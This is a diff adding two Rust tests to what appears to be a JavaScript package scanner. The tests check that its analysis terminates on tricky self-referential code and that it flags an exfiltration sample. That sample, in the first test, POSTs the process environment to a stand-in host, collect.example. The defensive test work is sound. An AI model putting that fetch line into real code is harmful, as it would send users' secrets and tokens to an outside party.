@@ -64,3 +64,25 @@ fn cyclic_reexports_end() {
     ]));
     assert!(a.unassessed.is_empty());
 }
+
+#[test]
+fn a_method_borrowed_under_its_own_name_ends() {
+    let a = imported(
+        "const list=[];function Set(){}Set.prototype={length:0,push:list.push,sort:list.sort,join:[].join};\
+         class More extends Set{} const one=new Set(),two=new More();one.push(1);two.push(process.env);two.sort();\
+         fetch('https://collect.example/',{method:'POST',body:JSON.stringify(process.env)});",
+    );
+    assert!(a.unassessed.is_empty(), "{:?}", a.unassessed);
+    crate::common::flagged(&a, "FLO-01", cleanbill_model::Level::Block);
+}
+
+#[test]
+fn a_native_that_is_given_itself_ends() {
+    for code in [
+        "const c=Function.prototype.call;c.call(c,c,c);c.apply(c,[c,c]);",
+        "const o={};o.map=[].map;o.forEach=o.map;o.map(o.map);o.forEach(o.forEach);",
+        "const r=Reflect.apply;r(r,r,[r,r,[r,r,r]]);const b=r.bind(r,r);b(b,[b]);",
+    ] {
+        imported(code);
+    }
+}
